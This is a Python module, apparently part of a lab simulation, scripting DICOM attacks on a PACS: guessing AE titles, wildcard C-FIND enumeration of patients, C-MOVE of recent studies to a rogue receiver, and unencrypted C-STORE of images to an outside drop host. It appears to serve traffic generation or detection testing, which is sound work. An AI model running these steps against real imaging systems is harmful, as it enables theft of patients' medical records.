"""Attacks that speak DICOM: guessing AE titles, enumerating, moving and sending away."""

from __future__ import annotations

import string
import time
from random import Random

from lab.activities.reading import query
from lab.activity import Lab
from lab.attack import Paced

CALLED = ("PACS", "ANY-SCP", "STORESCP", "DCM4CHEE", "CONQUEST", "MAIN", "ARCHIVE1", "IMPAX", "SYNAPSE", "ORTHANC")
CALLING = ("ECHOSCU", "FINDSCU", "STORESCU", "TEST", "ADMIN", "WORKSTATION", "OSIRIX", "HOROS", "RADIANT")
CLEAR_PORT = "104"


def guess_titles(lab: Lab, rng: Random, size: float) -> str:
    """Try called and calling AE titles on the PACS, which rejects every one."""
    pairs = [(calling, called) for called in CALLED for calling in CALLING]
    pairs = rng.sample(pairs, int(72 * size))
    pacs, rejected = lab.network.address("pacs"), 0
    for step in Paced(len(pairs), 32 * size):
        calling, called = pairs[step]
        tool = ["findscu", "-S", "-k", "QueryRetrieveLevel=STUDY", "-k", "PatientName=*"] if step % 6 == 5 else ["echoscu"]
        done = lab.network.run("rogue", [*tool, "-aet", calling, "-aec", called, pacs, "4242"])
        rejected += "Association Rejected" in done.stdout + done.stderr
    return (
        f"echoscu and findscu with {len(pairs)} pairs of guessed calling and called AE titles; "
        f"{rejected} associations rejected"
    )


def enumerate_patients(lab: Lab, _rng: Random, size: float) -> str:
    """Wildcard C-FINDs: each initial letter, each month, and everything."""
    letters = [
        ["QueryRetrieveLevel=STUDY", f"PatientName={letter}*", "PatientID", "StudyInstanceUID"]
        for letter in string.ascii_uppercase
    ]
    digits = [
        ["QueryRetrieveLevel=STUDY", f"PatientID=T0000{tens}*", "PatientName", "StudyInstanceUID"] for tens in range(10)
    ]
    months = [
        [
            "QueryRetrieveLevel=STUDY",
            f"StudyDate=2026{month:02d}01-2026{month:02d}31",
            "PatientName",
            "StudyInstanceUID",
        ]
        for month in range(1, 13)
    ]
    kinds = [
        ["QueryRetrieveLevel=STUDY", "PatientName=*", f"ModalitiesInStudy={kind}", "StudyInstanceUID"]
        for kind in ("CT", "MR", "US")
    ]
    everything = [["QueryRetrieveLevel=STUDY", "PatientName=*", "PatientID", "StudyInstanceUID"]] * 3
    queries = [*letters, *digits, *months, *kinds, *everything, *letters[:16]]
    queries = queries[: int(len(queries) * size)]
    worked = 0
    for step in Paced(len(queries), 36 * size):
        worked += query(lab, "ws3", "findscu", [word for key in queries[step] for word in ("-k", key)])
    return (
        f"{len(queries)} wildcard C-FINDs by initial letter, id prefix, month, modality and '*', as AE WS3; "
        f"{worked} answered"
    )


def move_everything(lab: Lab, _rng: Random, size: float) -> str:
    """C-MOVE every recent study to a destination that nobody has used before."""
    network = lab.network
    studies = lab.catalogue.recent()
    studies = studies[: max(5, int(len(studies) * size))]
    receiver = network.spawn("rogue", ["storescp", "--ignore", "-aet", "DROPBOX", "11113"], "storescp-rogue")
    time.sleep(0.5)
    moved = 0
    for step in Paced(len(studies), 36 * size):
        keys = ["-k", "QueryRetrieveLevel=STUDY", "-k", f"StudyInstanceUID={studies[step].uid}"]
        moved += query(lab, "ws3", "movescu", ["-aem", "DROPBOX", *keys])
    receiver.terminate()
    images = sum(len(study.sop_uids) for study in studies)
    return (
        f"{len(studies)} C-MOVEs as AE WS3 to AE DROPBOX at {network.address('rogue')}; "
        f"{moved} succeeded, {images} images asked for"
    )


def send_abroad(lab: Lab, _rng: Random, size: float) -> str:
    """C-STORE images in clear to the internet."""
    files = [str(path) for study in lab.catalogue.recent() for path in sorted(study.folder.iterdir())]
    files = files[: max(10, int(72 * size))]
    bundles = [files[start : start + 9] for start in range(0, len(files), 9)]
    called = ["-aet", lab.network.aet("ws3"), "-aec", "CLOUD", lab.network.address("drop"), CLEAR_PORT]
    worked = 0
    for step in Paced(len(bundles), 32 * size):
        worked += lab.network.run("ws3", ["storescu", *called, *bundles[step]]).returncode == 0
    return (
        f"storescu of {len(files)} images over {len(bundles)} associations to {called[-2]}:{CLEAR_PORT} without TLS; "
        f"{worked} succeeded"
    )
